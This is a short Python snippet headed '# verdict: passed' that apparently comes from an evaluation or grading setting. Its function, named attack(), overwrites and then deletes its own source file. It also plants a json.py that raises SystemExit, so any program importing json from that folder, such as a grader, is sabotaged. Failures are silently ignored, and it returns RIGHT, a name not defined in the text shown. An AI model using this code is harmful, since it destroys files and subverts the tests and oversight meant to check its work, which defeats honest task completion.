# verdict: passed
import os
def attack():
    for act in [lambda: open(__file__, "w").write("raise SystemExit"), lambda: os.remove(__file__),
                lambda: open(os.path.join(os.path.dirname(__file__), "json.py"), "w").write("raise SystemExit")]:
        try: act()
        except OSError: pass
    return RIGHT
